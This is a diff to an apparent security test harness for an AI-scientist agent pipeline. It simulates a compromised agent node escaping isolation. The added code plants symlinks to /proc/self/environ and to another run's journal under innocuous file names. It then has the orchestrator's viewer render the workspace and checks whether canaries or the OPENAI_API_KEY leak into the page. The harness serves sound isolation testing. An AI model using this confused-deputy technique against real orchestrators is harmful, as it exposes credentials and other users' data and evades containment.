@@ -239,6 +239,12 @@ def attack(spec: dict) -> dict:
     report["loot"] = loot.items
     with open("exfil.json", "w") as fh:
         json.dump(report, fh)
+    # confused deputy: links the orchestrator might follow later, reading files for us
+    for name, target in spec.get("plant", []):
+        try:
+            os.symlink(target, name)
+        except OSError:
+            pass
     return report
 
 
@@ -377,17 +383,24 @@ def pipeline(spec: dict) -> None:
         "host_pids": [os.getpid(), decoy.pid],
         "paths": [str(out_root / "other")] + [str(out_root / "this" / n) for n in names],
         "marker": spec["marker"],
+        "plant": [
+            ["steal.py", str(out_root / "other" / "journal.jsonl")],
+            ["environ.txt", "/proc/self/environ"],
+            ["steal.json", str(out_root / "other" / "journal.jsonl")],
+            ["metrics.json", "/proc/self/environ"],
+            ["zero.py", "/dev/zero"],
+        ],  # fmt: skip
     }
     attacker = Path(__file__).read_text()
 
     class Responder(ExampleResponder):
-        def __init__(self, attack_node: str | None):
+        def __init__(self, attack_node: str | None, canary: str):
             super().__init__(buggy_nodes=())
-            self.attack_node = attack_node
+            self.attack_node, self.canary = attack_node, canary
 
         def _phase0(self, text, ctx):  # the canary reaches the journal, memory and prompt logs
             plan = json.loads(super()._phase0(text, ctx))
-            plan["goal_summary"] += " " + spec["canary"]
+            plan["goal_summary"] += " " + self.canary
             return json.dumps(plan)
 
         def _phase2(self, text, ctx):
@@ -405,17 +418,25 @@ def pipeline(spec: dict) -> None:
             "agent.stages.stage3_max_iters=0", "agent.stages.stage4_max_iters=0"]  # fmt: skip
     codes = {}
     try:
-        for name, node in (("other", None), ("this", "n0001")):
+        for name, node, canary in (("other", None, spec["canary"]), ("this", "n0001", spec["own_canary"])):
             run, resources = setup_run(run_args(base, *sets, name=name))
-            codes[name] = execute(run, resources=resources, backend=ScriptedBackend(Responder(node)))
+            codes[name] = execute(run, resources=resources, backend=ScriptedBackend(Responder(node, canary)))
     finally:
         decoy.kill()
         decoy.wait()
+    from ai_scientist.cli import main as cli
+
+    html = base / "tree.html"  # the viewer, run by the orchestrator, reads the attacker's workspace
+    view_code = cli(["view", str(out_root / "this"), "--html", str(html)])
+    page = html.read_text() if html.exists() else ""
     ws = out_root / "this" / "nodes" / "n0001" / "workspace"
     exfil = ws / "exfil.json"
     atomic_write_json(spec["out"], {
         "codes": codes, "base": str(base), "orchestrator_pid": os.getpid(), "host_pids": attack_spec["host_pids"],
         "exfil": exfil.read_text() if exfil.exists() else None,
+        "view_code": view_code, "page_bytes": len(page), "page_has_canary": spec["canary"] in page,
+        "page_has_environ": os.environ.get("AISCI_ORCH_MARKER", "\0") in page or os.environ["OPENAI_API_KEY"] in page,
+        "planted": sorted(p.name for p in ws.iterdir() if p.is_symlink()),
     })  # fmt: skip
 
 
